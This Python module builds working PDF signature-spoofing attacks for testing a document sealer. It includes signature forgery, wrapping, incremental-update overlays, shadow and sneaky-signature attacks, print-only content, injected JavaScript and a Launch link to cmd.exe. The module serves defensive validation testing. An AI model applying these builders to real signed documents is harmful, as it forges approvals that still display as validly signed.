"""Attack builders against sealed PDFs: each takes the bytes of a document and returns the attacked bytes.

They build the published techniques byte by byte (pyHanko's incremental writer or raw bytes), so a test can
run them against a document the real sealer has just made, not only a stored fixture. Every builder names
its source. The overlay the visible attacks draw is a real forgery: a white box over a line of the page and
that line redrawn with other text, in the document's own embedded font (its glyphs found through the
font's ``/ToUnicode`` map), located on the page by PDFium's text layer.

Sources:

* Mladenov, Mainka, Meyer zu Selhausen, Grothe, Schwenk, "1 Trillion Dollar Refund: How to Spoof PDF
  Signatures", ACM CCS 2019 — Universal Signature Forgery (USF), Incremental Saving Attack (ISA),
  Signature Wrapping Attack (SWA).
* Mainka, Mladenov, Rohlmann, Schwenk, "Attacks Bypassing the Signature Validation in PDF" (vulnerability
  report 2020) and "Shadow Attacks: Hiding and Replacing Content in Signed PDFs", NDSS 2021 — hide /
  replace / hide-and-replace with objects planted before signing.
* Mainka, Mladenov, Rohlmann, Schwenk, "Breaking the Specification: PDF Certification", IEEE S&P 2021 —
  Evil Annotation Attack and Sneaky Signature Attack (SSA).
* ISO 32000-2 §8.11 (optional content, /Usage /Print vs /View), §12.7.2 (/NeedAppearances, /DA),
  §12.6 (actions: JavaScript, Launch) — the view/print split and active content as vectors.
* Yizhang issue 18 (the held-out attack set: a visible document timestamp as an overlay).
"""

from __future__ import annotations

import io
import re
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

Box = tuple[float, float, float, float]


# ---------------------------------------------------------------------------------------------------------
# plumbing


def _incremental(pdf: bytes, mutate: Callable[[Any], None]) -> bytes:
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

    w = IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False)
    mutate(w)
    out = io.BytesIO()
    w.write(out)
    return out.getvalue()


def _name(n: str) -> Any:
    from pyhanko.pdf_utils import generic

    return generic.NameObject(n)


def _nums(*values: float) -> Any:
    from pyhanko.pdf_utils import generic

    return generic.ArrayObject(generic.FloatObject(v) for v in values)


def _page(w: Any, index: int = 0) -> tuple[Any, Any]:
    """(reference, dictionary) of page ``index`` in a writer or reader."""
    ref = w.root["/Pages"]["/Kids"].raw_get(index)
    return ref, ref.get_object()


def _media_box(page: Any) -> Box:
    x0, y0, x1, y1 = (float(v) for v in page["/MediaBox"])
    return x0, y0, x1, y1


def _int_box(box: Box) -> tuple[int, int, int, int]:
    x0, y0, x1, y1 = (round(v) for v in box)
    return x0, y0, x1, y1


def trailer_size(pdf: bytes) -> int:
    """``/Size`` of the newest trailer: the number the next object written by an incremental update gets."""
    from pyhanko.pdf_utils.reader import PdfFileReader

    return int(PdfFileReader(io.BytesIO(pdf), strict=False).trailer["/Size"])


def locate_text(pdf: bytes, needle: str, page: int = 0) -> tuple[Box, float]:
    """Bounding box (PDF points) and font size of ``needle`` on ``page``, from PDFium's text layer."""
    import pypdfium2 as pdfium
    import pypdfium2.raw as pdfium_c

    doc = pdfium.PdfDocument(pdf)
    try:
        text = doc[page].get_textpage()
        match = text.search(needle).get_next()
        if match is None:
            raise ValueError(f"{needle!r} is not on page {page}")
        start, count = match
        boxes = [text.get_charbox(i) for i in range(start, start + count)]
        size = float(pdfium_c.FPDFText_GetFontSize(text.raw, start))
    finally:
        doc.close()
    return (
        (
            min(b[0] for b in boxes),
            min(b[1] for b in boxes),
            max(b[2] for b in boxes),
            max(b[3] for b in boxes),
        ),
        size,
    )


def _to_unicode_inverse(font: Any) -> dict[str, int]:
    """character -> CID, read from a Type0 font's ``/ToUnicode`` CMap (bfchar and bfrange forms)."""
    data = font["/ToUnicode"].get_object().data.decode("latin-1")
    out: dict[str, int] = {}

    def u(hexstr: str) -> str:
        return bytes.fromhex(hexstr).decode("utf-16-be")

    for block in re.findall(r"beginbfchar(.*?)endbfchar", data, re.S):
        for cid, uni in re.findall(r"<([0-9A-Fa-f]+)>\s*<([0-9A-Fa-f]+)>", block):
            out.setdefault(u(uni), int(cid, 16))
    for block in re.findall(r"beginbfrange(.*?)endbfrange", data, re.S):
        for lo, hi, rest in re.findall(
            r"<([0-9A-Fa-f]+)>\s*<([0-9A-Fa-f]+)>\s*(\[[^\]]*\]|<[0-9A-Fa-f]+>)", block
        ):
            first, last = int(lo, 16), int(hi, 16)
            if rest.startswith("["):
                for i, uni in enumerate(re.findall(r"<([0-9A-Fa-f]+)>", rest)):
                    out.setdefault(u(uni), first + i)
            else:
                base = int(rest[1:-1], 16)
                for i in range(last - first + 1):
                    out.setdefault(chr(base + i), first + i)
    return out


def _embedded_font(w: Any, page: Any, text: str) -> tuple[Any, bytes]:
    """A font of ``page`` that can draw ``text`` (its reference) and the string operand drawing it."""
    fonts = page["/Resources"]["/Font"]
    for key in fonts:
        ref = fonts.raw_get(key)
        font = ref.get_object()
        if font.get("/Subtype") != "/Type0" or "/ToUnicode" not in font:
            continue
        cmap = _to_unicode_inverse(font)
        if all(ch in cmap for ch in text):
            return ref, b"<" + "".join(f"{cmap[ch]:04x}" for ch in text).encode() + b">"
    raise ValueError(f"no embedded font of the page has glyphs for {text!r}")


@dataclass(frozen=True)
class Forgery:
    """White out the line showing ``old`` on ``page`` and draw ``new`` on its baseline, in the same size."""

    old: str
    new: str
    page: int = 0


def _overlay_stream(w: Any, pdf: bytes, forgery: Forgery, bbox: Box | None = None) -> Any:
    """A Form XObject covering the whole page that draws the forgery (its BBox is the page's MediaBox, so a
    widget with ``/Rect`` = MediaBox puts it exactly over the page text)."""
    from pyhanko.pdf_utils import generic

    (x0, y0, x1, y1), size = locate_text(pdf, forgery.old, forgery.page)
    _ref, page = _page(w, forgery.page)
    font_ref, glyphs = _embedded_font(w, page, forgery.new)
    baseline = y0 + 0.155 * size
    ops = b"q 1 1 1 rg %.2f %.2f %.2f %.2f re f Q BT 0 g /FZ %.2f Tf 1 0 0 1 %.2f %.2f Tm %s Tj ET" % (
        x0 - 2,
        y0 - 2,
        (x1 - x0) + 40,
        (y1 - y0) + 4,
        size,
        x0,
        baseline,
        glyphs,
    )
    return generic.StreamObject(
        {
            _name("/Type"): _name("/XObject"),
            _name("/Subtype"): _name("/Form"),
            _name("/BBox"): _nums(*(bbox or _media_box(page))),
            _name("/Resources"): generic.DictionaryObject(
                {_name("/Font"): generic.DictionaryObject({_name("/FZ"): font_ref})}
            ),
        },
        stream_data=ops,
    )


def _print_only_ocg(w: Any) -> Any:
    """An optional-content group shown on paper and hidden on screen (ISO 32000-2 §8.11.4.4 /Usage), made
    effective by /AS usage applications in the catalog's /OCProperties."""
    from pyhanko.pdf_utils import generic

    ocg = w.add_object(
        generic.DictionaryObject(
            {
                _name("/Type"): _name("/OCG"),
                _name("/Name"): generic.TextStringObject("print"),
                _name("/Usage"): generic.DictionaryObject(
                    {
                        _name("/Print"): generic.DictionaryObject({_name("/PrintState"): _name("/ON")}),
                        _name("/View"): generic.DictionaryObject({_name("/ViewState"): _name("/OFF")}),
                    }
                ),
            }
        )
    )

    def usage(event: str) -> Any:
        return generic.DictionaryObject(
            {
                _name("/Event"): _name(event),
                _name("/OCGs"): generic.ArrayObject([ocg]),
                _name("/Category"): generic.ArrayObject([_name(event)]),
            }
        )

    w.root[_name("/OCProperties")] = generic.DictionaryObject(
        {
            _name("/OCGs"): generic.ArrayObject([ocg]),
            _name("/D"): generic.DictionaryObject(
                {
                    _name("/OFF"): generic.ArrayObject([ocg]),
                    _name("/AS"): generic.ArrayObject([usage("/View"), usage("/Print")]),
                }
            ),
        }
    )
    w.update_root()
    return ocg


def _add_widget_field(w: Any, page_index: int, field: Any) -> Any:
    """Register a field that is its own widget on the page's /Annots and the AcroForm's /Fields."""
    from pyhanko.pdf_utils import generic

    page_ref, page = _page(w, page_index)
    field[_name("/P")] = page_ref
    ref = w.add_object(field)
    annots = page.get("/Annots")
    if annots is None:
        page[_name("/Annots")] = generic.ArrayObject([ref])
    else:
        annots = annots.get_object()
        annots.append(ref)
        if page.raw_get("/Annots") is not annots:
            w.update_container(annots)
    w.update_container(page)
    form_ref = w.root.raw_get("/AcroForm")
    form = form_ref.get_object()
    form["/Fields"].append(ref)
    if isinstance(form_ref, generic.IndirectObject):
        w.update_container(form)
    else:
        w.update_root()
    return ref


def _timestamp(w: Any, timestamper: Any, field_name: str, validation_context: Any = None) -> bytes:
    from pyhanko.sign.signers.pdf_signer import PdfTimeStamper

    out = io.BytesIO()
    PdfTimeStamper(timestamper, field_name=field_name).timestamp_pdf(
        w, "sha256", validation_context=validation_context, output=out
    )
    return out.getvalue()


def _writer(pdf: bytes) -> Any:
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

    return IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False)


# ---------------------------------------------------------------------------------------------------------
# 1, 2, 3, 7: a visible document timestamp as an overlay (issue 18 item 1), its shadow and sneaky variants


def invisible_document_timestamp(pdf: bytes, timestamper: Any, validation_context: Any = None) -> bytes:
    """What LTA renewal legitimately adds: an invisible document timestamp (and, given a validation
    context, the DSS with the TSA's chain and revocation data). The positive control."""
    return _timestamp(_writer(pdf), timestamper, "LTA-renewal", validation_context)


def visible_timestamp_overlay(
    pdf: bytes,
    timestamper: Any,
    forgery: Forgery,
    *,
    field_name: str = "Timestamp-visible",
    appearance_obj: int | None = None,
    print_only: bool = False,
) -> bytes:
    """Issue 18 item 1 (an Evil-Annotation-style overlay, Mainka et al. S&P 2021, carried by a document
    timestamp): one incremental update adds a /DocTimeStamp signature field whose widget covers the page
    and whose appearance whites out ``forgery.old`` and draws ``forgery.new``; then the timestamp is filled
    in. ``appearance_obj``: use this existing (planted) object as the appearance instead (shadow "hide").
    ``print_only``: the widget sits in an optional-content group that prints but is not viewed."""
    from pyhanko.pdf_utils import generic

    w = _writer(pdf)
    _ref, page = _page(w, forgery.page)
    if appearance_obj is not None:
        ap = generic.IndirectObject(appearance_obj, 0, w)
    else:
        ap = w.add_object(_overlay_stream(w, pdf, forgery))
    field = generic.DictionaryObject(
        {
            _name("/FT"): _name("/Sig"),
            _name("/T"): generic.TextStringObject(field_name),
            _name("/Type"): _name("/Annot"),
            _name("/Subtype"): _name("/Widget"),
            _name("/F"): generic.NumberObject(4),  # Print
            _name("/Rect"): _nums(*_media_box(page)),
            _name("/AP"): generic.DictionaryObject({_name("/N"): ap}),
        }
    )
    if print_only:
        field[_name("/OC")] = _print_only_ocg(w)
    _add_widget_field(w, forgery.page, field)
    return _timestamp(w, timestamper, field_name)


def plant_orphan_overlay(pdf: bytes, forgery: Forgery) -> bytes:
    """Shadow attack, "hide" class (Mainka et al., NDSS 2021), step one, before signing: an incremental
    update adds the overlay Form XObject and nothing refers to it. Its object number is
    ``trailer_size(pdf)`` (the next free one). Step two is :func:`visible_timestamp_overlay` with
    ``appearance_obj`` set to it, after sealing."""

    def mutate(w: Any) -> None:
        w.add_object(_overlay_stream(w, pdf, forgery))

    return _incremental(pdf, mutate)


def place_empty_signature_field(pdf: bytes, name: str, box: Box, page: int = 0) -> bytes:
    """Sneaky Signature Attack (Mainka et al., IEEE S&P 2021), step one, before sealing: an empty visible
    signature field waits in the document."""
    from pyhanko.sign.fields import SigFieldSpec, append_signature_field

    def mutate(w: Any) -> None:
        append_signature_field(w, SigFieldSpec(name, box=_int_box(box), on_page=page))

    return _incremental(pdf, mutate)


def fill_sneaky_field(pdf: bytes, timestamper: Any, field_name: str, forgery: Forgery) -> bytes:
    """Sneaky Signature Attack, step two, after sealing: the waiting field gets the forgery as its
    appearance and is filled with a document timestamp. Nothing else of the field changes: its /Rect was
    chosen before sealing to cover the line the forgery replaces (the appearance's /BBox is that /Rect, in
    page coordinates, so it draws exactly over the page text)."""
    from pyhanko.pdf_utils import generic
    from pyhanko.sign.fields import enumerate_sig_fields

    w = _writer(pdf)
    for name, _value, ref in enumerate_sig_fields(w, filled_status=False):
        if name == field_name:
            widget = ref.get_object()
            rect = tuple(float(v) for v in widget["/Rect"])
            widget[_name("/AP")] = generic.DictionaryObject(
                {_name("/N"): w.add_object(_overlay_stream(w, pdf, forgery, bbox=rect))}  # type: ignore[arg-type]
            )
            w.update_container(widget)
            break
    else:
        raise ValueError(f"no empty signature field {field_name!r}")
    return _timestamp(w, timestamper, field_name)


# ---------------------------------------------------------------------------------------------------------
# 4: active content, as direct objects (issue 18 item 4) and as indirect ones (ISO 32000-2 §12.6)


def add_open_action_javascript(pdf: bytes, *, inline: bool = True) -> bytes:
    """Catalog /OpenAction running JavaScript when the file opens (hides or rewrites fields on screen)."""
    from pyhanko.pdf_utils import generic

    def mutate(w: Any) -> None:
        action = generic.DictionaryObject(
            {
                _name("/S"): _name("/JavaScript"),
                _name("/JS"): generic.TextStringObject("this.getField('Seal1').display = display.hidden;"),
            }
        )
        w.root[_name("/OpenAction")] = action if inline else w.add_object(action)
        w.update_root()

    return _incremental(pdf, mutate)


def add_names_javascript(pdf: bytes, *, inline: bool = True) -> bytes:
    """A document-level script in the catalog's /Names /JavaScript name tree (run on open)."""
    from pyhanko.pdf_utils import generic

    def mutate(w: Any) -> None:
        action = generic.DictionaryObject(
            {
                _name("/S"): _name("/JavaScript"),
                _name("/JS"): generic.TextStringObject("app.alert('approved');"),
            }
        )
        tree = generic.DictionaryObject(
            {
                _name("/Names"): generic.ArrayObject(
                    [generic.TextStringObject("init"), action if inline else w.add_object(action)]
                )
            }
        )
        w.root[_name("/Names")] = generic.DictionaryObject(
            {_name("/JavaScript"): tree if inline else w.add_object(tree)}
        )
        w.update_root()

    return _incremental(pdf, mutate)


def add_launch_link(pdf: bytes, *, inline: bool = True, page: int = 0) -> bytes:
    """A link annotation whose action launches a program, written inline in the page's /Annots."""
    from pyhanko.pdf_utils import generic

    def mutate(w: Any) -> None:
        _ref, pg = _page(w, page)
        action = generic.DictionaryObject(
            {_name("/S"): _name("/Launch"), _name("/F"): generic.TextStringObject("cmd.exe")}
        )
        annot = generic.DictionaryObject(
            {
                _name("/Type"): _name("/Annot"),
                _name("/Subtype"): _name("/Link"),
                _name("/Rect"): _nums(72, 72, 300, 100),
                _name("/Border"): generic.ArrayObject([generic.NumberObject(0)] * 3),
                _name("/A"): action if inline else w.add_object(action),
            }
        )
        entry = annot if inline else w.add_object(annot)
        old = pg.get("/Annots")
        items = list(old.get_object()) if old is not None else []
        raw = [old.get_object().raw_get(i) for i in range(len(items))] if old is not None else []
        pg[_name("/Annots")] = generic.ArrayObject([*raw, entry])
        w.update_container(pg)

    return _incremental(pdf, mutate)


# ---------------------------------------------------------------------------------------------------------
# 7: the view/print split and form-level appearance switches


def add_print_only_page_content(pdf: bytes, forgery: Forgery) -> bytes:
    """The page's content gains the forgery inside a print-only optional-content group: the screen shows
    the sealed text, the paper the forgery (ISO 32000-2 §8.11)."""
    from pyhanko.pdf_utils import generic

    def mutate(w: Any) -> None:
        page_ref, page = _page(w, forgery.page)
        ocg = _print_only_ocg(w)
        xobj = w.add_object(_overlay_stream(w, pdf, forgery))
        res = page["/Resources"]
        res[_name("/Properties")] = generic.DictionaryObject({_name("/oc1"): ocg})
        res[_name("/XObject")] = generic.DictionaryObject({_name("/Fz"): xobj})
        extra = w.add_object(generic.StreamObject(stream_data=b"/OC /oc1 BDC q /Fz Do Q EMC"))
        contents = page.raw_get("/Contents")
        parts = list(contents) if isinstance(contents, generic.ArrayObject) else [contents]
        page[_name("/Contents")] = generic.ArrayObject([*parts, extra])
        w.update_container(page)
        del page_ref

    return _incremental(pdf, mutate)


def _update_acroform(pdf: bytes, key: str, value: Any) -> bytes:
    from pyhanko.pdf_utils import generic

    def mutate(w: Any) -> None:
        form_ref = w.root.raw_get("/AcroForm")
        form = form_ref.get_object()
        form[_name(key)] = value
        if isinstance(form_ref, generic.IndirectObject):
            w.update_container(form)
        else:
            w.update_root()

    return _incremental(pdf, mutate)


def set_need_appearances(pdf: bytes) -> bytes:
    """/NeedAppearances true: the viewer regenerates field appearances instead of showing the signed ones
    (ISO 32000-2 §12.7.3; deprecated in PDF 2.0 but honoured by viewers)."""
    from pyhanko.pdf_utils import generic

    return _update_acroform(pdf, "/NeedAppearances", generic.BooleanObject(True))


def change_default_appearance(pdf: bytes, da: str = "/Helv 0 Tf 1 0 0 rg") -> bytes:
    """The AcroForm's default appearance string (/DA) changed: regenerated appearances look different."""
    from pyhanko.pdf_utils import generic

    return _update_acroform(pdf, "/DA", generic.TextStringObject(da))


# ---------------------------------------------------------------------------------------------------------
# 8: what already holds (regression): ISA, replaced appearances, form filling, USF, SWA, later signatures,
# empty fields, changes hidden in object streams


def overlay_page_content(pdf: bytes, forgery: Forgery) -> bytes:
    """Incremental Saving Attack (Mladenov et al., CCS 2019): an update appends the forgery to the page's
    content stream array."""
    from pyhanko.pdf_utils import generic

    def mutate(w: Any) -> None:
        _ref, page = _page(w, forgery.page)
        xobj = w.add_object(_overlay_stream(w, pdf, forgery))
        res = page["/Resources"]
        res[_name("/XObject")] = generic.DictionaryObject({_name("/Fz"): xobj})
        extra = w.add_object(generic.StreamObject(stream_data=b"q /Fz Do Q"))
        contents = page.raw_get("/Contents")
        parts = list(contents) if isinstance(contents, generic.ArrayObject) else [contents]
        page[_name("/Contents")] = generic.ArrayObject([*parts, extra])
        w.update_container(page)

    return _incremental(pdf, mutate)


def replace_stamp_appearance(pdf: bytes, field_name: str = "Seal1") -> bytes:
    """The seal's widget gets another appearance (a different stamp face) in a later update."""
    from pyhanko.pdf_utils import generic
    from pyhanko.sign.fields import enumerate_sig_fields

    def mutate(w: Any) -> None:
        for name, _value, ref in enumerate_sig_fields(w, filled_status=True):
            if name == field_name:
                widget = ref.get_object()
                x0, y0, x1, y1 = (float(v) for v in widget["/Rect"])
                ap = w.add_object(
                    generic.StreamObject(
                        {
                            _name("/Type"): _name("/XObject"),
                            _name("/Subtype"): _name("/Form"),
                            _name("/BBox"): _nums(0, 0, x1 - x0, y1 - y0),
                        },
                        stream_data=b"1 0 0 RG 4 w 10 10 %.1f %.1f re S" % (x1 - x0 - 20, y1 - y0 - 20),
                    )
                )
                widget[_name("/AP")] = generic.DictionaryObject({_name("/N"): ap})
                w.update_container(widget)
                return
        raise ValueError(f"no signed field {field_name!r}")

    return _incremental(pdf, mutate)


def add_text_field(pdf: bytes, name: str = "remark", box: Box = (72, 150, 380, 176), page: int = 0) -> bytes:
    """Before sealing: an empty text form field (for the form-filling attack)."""
    from pyhanko.pdf_utils import generic

    def mutate(w: Any) -> None:
        page_ref, pg = _page(w, page)
        field = generic.DictionaryObject(
            {
                _name("/FT"): _name("/Tx"),
                _name("/T"): generic.TextStringObject(name),
                _name("/V"): generic.TextStringObject(""),
                _name("/Type"): _name("/Annot"),
                _name("/Subtype"): _name("/Widget"),
                _name("/F"): generic.NumberObject(4),
                _name("/Rect"): _nums(*box),
                _name("/DA"): generic.TextStringObject("/Helv 12 Tf 0 g"),
                _name("/P"): page_ref,
            }
        )
        ref = w.add_object(field)
        old = pg.get("/Annots")
        raw = [old.get_object().raw_get(i) for i in range(len(old.get_object()))] if old is not None else []
        pg[_name("/Annots")] = generic.ArrayObject([*raw, ref])
        w.update_container(pg)
        if "/AcroForm" in w.root:
            form = w.root["/AcroForm"]
            form["/Fields"].append(ref)
            w.update_container(form)
        else:
            w.root[_name("/AcroForm")] = generic.DictionaryObject(
                {_name("/Fields"): generic.ArrayObject([ref])}
            )
            w.update_root()

    return _incremental(pdf, mutate)


def fill_text_field(pdf: bytes, name: str = "remark", value: str = "Approved without conditions") -> bytes:
    """Form filling after the seal: a value and a visible appearance for a text field (pyHanko's default
    policy calls this FORM_FILLING and accepts it for approval signatures)."""
    from pyhanko.pdf_utils import generic

    def mutate(w: Any) -> None:
        for ref in w.root["/AcroForm"]["/Fields"]:
            field = ref.get_object()
            if field.get("/T") == name:
                x0, y0, x1, y1 = (float(v) for v in field["/Rect"])
                ap = w.add_object(
                    generic.StreamObject(
                        {
                            _name("/Type"): _name("/XObject"),
                            _name("/Subtype"): _name("/Form"),
                            _name("/BBox"): _nums(0, 0, x1 - x0, y1 - y0),
                            _name("/Resources"): generic.DictionaryObject(
                                {
                                    _name("/Font"): generic.DictionaryObject(
                                        {
                                            _name("/Helv"): generic.DictionaryObject(
                                                {
                                                    _name("/Type"): _name("/Font"),
                                                    _name("/Subtype"): _name("/Type1"),
                                                    _name("/BaseFont"): _name("/Helvetica"),
                                                }
                                            )
                                        }
                                    )
                                }
                            ),
                        },
                        stream_data=b"/Tx BMC BT /Helv 12 Tf 0 g 2 6 Td (%s) Tj ET EMC"
                        % value.encode("latin-1"),
                    )
                )
                field[_name("/V")] = generic.TextStringObject(value)
                field[_name("/AP")] = generic.DictionaryObject({_name("/N"): ap})
                w.update_container(field)
                return
        raise ValueError(f"no field {name!r}")

    return _incremental(pdf, mutate)


USF_VARIANTS = (
    "contents-removed",
    "contents-empty",
    "contents-null",
    "contents-zeros",
    "byterange-removed",
    "byterange-empty",
    "byterange-null",
    "byterange-zero",
    "byterange-whole-file",
)


def universal_signature_forgery(pdf: bytes, variant: str, forgery: Forgery) -> bytes:
    """USF (Mladenov et al., CCS 2019 §4.1): one update changes the page (the forgery) and redefines every
    signature dictionary with /Contents or /ByteRange removed, empty, null or malformed, so that a viewer
    that skips what it cannot check still shows "signed"."""
    from pyhanko.pdf_utils import generic
    from pyhanko.sign.fields import enumerate_sig_fields

    if variant not in USF_VARIANTS:
        raise ValueError(variant)
    changed = overlay_page_content(pdf, forgery)

    def mutate(w: Any) -> None:
        for _name_, value, _ref in enumerate_sig_fields(w, filled_status=True):
            sig_ref = value if isinstance(value, generic.IndirectObject) else None
            if sig_ref is None:
                continue
            sig = sig_ref.get_object()
            what, how = variant.split("-", 1)
            key = "/Contents" if what == "contents" else "/ByteRange"
            if how == "removed":
                del sig[key]
            elif how == "empty":
                sig[_name(key)] = (
                    generic.ByteStringObject(b"") if key == "/Contents" else generic.ArrayObject()
                )
            elif how == "null":
                sig[_name(key)] = generic.NullObject()
            elif how == "zeros":
                sig[_name(key)] = generic.ByteStringObject(b"\x00" * 64)
            elif how == "zero":
                sig[_name(key)] = generic.ArrayObject([generic.NumberObject(0)] * 4)
            elif how == "whole-file":
                sig[_name(key)] = generic.ArrayObject(
                    [
                        generic.NumberObject(0),
                        generic.NumberObject(len(pdf)),
                        generic.NumberObject(0),
                        generic.NumberObject(0),
                    ]
                )
            w.mark_update(sig_ref)

    return _incremental(changed, mutate)


def _first_byte_range(pdf: bytes) -> tuple[re.Match[bytes], tuple[int, int, int, int]]:
    m = re.search(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]", pdf)
    if m is None:
        raise ValueError("no /ByteRange")
    a, b, c, d = (int(g) for g in m.groups())
    return m, (a, b, c, d)


def signature_wrapping(pdf: bytes, payload: bytes | None = None) -> bytes:
    """SWA (Mladenov et al., CCS 2019 §4.3), relocation step: the first signature's second signed part is
    moved further into the file and the room gained before it holds the attacker's objects; /ByteRange is
    rewritten in place (same width) so the digest input is again the original signed bytes, in their new
    place. pyHanko writes /ByteRange after /Contents, so the rewritten array itself lies in the moved part;
    the xref offsets after the insertion are stale, as they are in the paper's first step."""
    m, (_a, gap_start, gap_end, length) = _first_byte_range(pdf)
    payload = payload or b"\n999 0 obj\n(FORGED: valid until 2036)\nendobj\n"
    moved_to = gap_end + len(payload)
    new_range = b"/ByteRange [0 %d %d %d]" % (gap_start, moved_to, length)
    old_range = m.group(0)
    if len(new_range) > len(old_range):
        raise ValueError("the rewritten /ByteRange does not fit")
    new_range = new_range[:-1] + b" " * (len(old_range) - len(new_range)) + b"]"
    moved = pdf[gap_end : gap_end + length]
    at = m.start() - gap_end
    if 0 <= at < len(moved):
        moved = moved[:at] + new_range + moved[at + len(old_range) :]
    else:
        pdf = pdf[: m.start()] + new_range + pdf[m.end() :]
    return pdf[:gap_end] + payload + moved + pdf[gap_end + length :]


def wrap_in_the_gap(pdf: bytes, payload: bytes = b"> 99 0 obj (forged) endobj <") -> bytes:
    """SWA variant: the signature value's zero padding inside the /Contents gap is overwritten with other
    PDF syntax (the hex string closed early and reopened): the signed ranges are untouched."""
    _m, (_a, _gap_start, gap_end, _len) = _first_byte_range(pdf)
    pos = gap_end - 1 - len(payload) - 2
    if pdf[pos : gap_end - 1].strip(b"0"):
        raise ValueError("no zero padding to overwrite")
    return pdf[:pos] + payload + pdf[pos + len(payload) :]


def sign_visibly(
    pdf: bytes,
    cert: Any,
    key: Any,
    chain: list[Any],
    *,
    field_name: str = "Seal2",
    box: Box = (72, 600, 520, 700),
    stamp_text: str = "APPROVED %(ts)s",
) -> bytes:
    """A later signature by another signer with a visible widget over the page (asn1crypto certificate
    and private key; pyHanko's text stamp as the appearance)."""
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
    from pyhanko.sign import signers
    from pyhanko.sign.fields import SigFieldSpec
    from pyhanko.stamp import TextStampStyle
    from pyhanko_certvalidator.registry import SimpleCertificateStore

    signer = signers.SimpleSigner(
        signing_cert=cert, signing_key=key, cert_registry=SimpleCertificateStore.from_certs(chain)
    )
    w = IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False)
    out = io.BytesIO()
    signers.PdfSigner(
        signers.PdfSignatureMetadata(field_name=field_name, md_algorithm="sha256"),
        signer=signer,
        stamp_style=TextStampStyle(stamp_text=stamp_text),
        new_field_spec=SigFieldSpec(field_name, box=_int_box(box)),
    ).sign_pdf(w, output=out)
    return out.getvalue()


def add_empty_signature_field(pdf: bytes, name: str = "Overlay") -> bytes:
    """An empty signature field over the whole first page added after the seal (ready to be signed by
    anyone, Mainka et al. S&P 2021)."""
    from pyhanko.pdf_utils.reader import PdfFileReader

    page = PdfFileReader(io.BytesIO(pdf), strict=False).root["/Pages"]["/Kids"][0]
    return place_empty_signature_field(pdf, name, _media_box(page))


def page_swap_in_object_stream(pdf: bytes, forgery: Forgery) -> bytes:
    """An update written by hand with a cross-reference *stream* whose entry for the page object now points
    into a new object stream (type 2): the changed page dictionary (with the forgery appended to its
    contents) is hidden in compressed object storage, the way a PDF 1.5 writer saves."""
    from pyhanko.pdf_utils import generic
    from pyhanko.pdf_utils.reader import PdfFileReader

    r = PdfFileReader(io.BytesIO(pdf), strict=False)
    size = int(r.trailer["/Size"])
    root_ref = r.trailer.raw_get("/Root")
    prev = int(list(re.finditer(rb"startxref\s+(\d+)", pdf))[-1].group(1))
    page_ref = r.root["/Pages"]["/Kids"].raw_get(forgery.page)
    page = page_ref.get_object()
    (x0, y0, x1, y1), fsize = locate_text(pdf, forgery.old, forgery.page)
    font_ref, glyphs = _embedded_font(r, page, forgery.new)
    font_key = next(
        k for k in page["/Resources"]["/Font"] if page["/Resources"]["/Font"].raw_get(k) == font_ref
    )
    ops = b"q 1 1 1 rg %.2f %.2f %.2f %.2f re f Q BT 0 g %s %.2f Tf 1 0 0 1 %.2f %.2f Tm %s Tj ET" % (
        x0 - 2,
        y0 - 2,
        (x1 - x0) + 40,
        (y1 - y0) + 4,
        font_key.encode(),
        fsize,
        x0,
        y0 + 0.155 * fsize,
        glyphs,
    )
    content_num, objstm_num, xref_num = size, size + 1, size + 2

    def ser(obj: Any) -> bytes:
        buf = io.BytesIO()
        obj.write_to_stream(buf, None)
        return buf.getvalue()

    contents = page.raw_get("/Contents")
    parts = list(contents) if isinstance(contents, generic.ArrayObject) else [contents]
    new_page = generic.DictionaryObject({k: page.raw_get(k) for k in page})
    new_page[_name("/Contents")] = generic.ArrayObject([*parts, generic.IndirectObject(content_num, 0, r)])
    page_bytes = ser(new_page)
    header = b"%d 0 " % page_ref.idnum
    objstm_data = header + page_bytes
    out = bytearray(pdf)
    if not out.endswith(b"\n"):
        out += b"\n"
    offsets: dict[int, int] = {}
    offsets[content_num] = len(out)
    out += b"%d 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (content_num, len(ops), ops)
    offsets[objstm_num] = len(out)
    out += b"%d 0 obj\n<< /Type /ObjStm /N 1 /First %d /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (
        objstm_num,
        len(header),
        len(objstm_data),
        objstm_data,
    )
    offsets[xref_num] = len(out)
    rows = [(page_ref.idnum, 2, objstm_num, 0)] + [
        (n, 1, offsets[n], 0) for n in (content_num, objstm_num, xref_num)
    ]
    rows.sort()
    data = b"".join(bytes([t]) + f2.to_bytes(4, "big") + f3.to_bytes(2, "big") for _n, t, f2, f3 in rows)
    index = b" ".join(b"%d 1" % n for n, *_ in rows)
    out += (
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Index [%s] /Root %d %d R /Prev %d /Length %d >>\n"
        b"stream\n" % (xref_num, xref_num + 1, index, root_ref.idnum, root_ref.generation, prev, len(data))
    )
    out += data + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[xref_num]
    return bytes(out)


__all__ = [
    "USF_VARIANTS",
    "Forgery",
    "add_empty_signature_field",
    "add_launch_link",
    "add_names_javascript",
    "add_open_action_javascript",
    "add_print_only_page_content",
    "add_text_field",
    "change_default_appearance",
    "fill_sneaky_field",
    "fill_text_field",
    "invisible_document_timestamp",
    "locate_text",
    "overlay_page_content",
    "page_swap_in_object_stream",
    "place_empty_signature_field",
    "plant_orphan_overlay",
    "replace_stamp_appearance",
    "set_need_appearances",
    "sign_visibly",
    "signature_wrapping",
    "trailer_size",
    "universal_signature_forgery",
    "visible_timestamp_overlay",
    "wrap_in_the_gap",
]
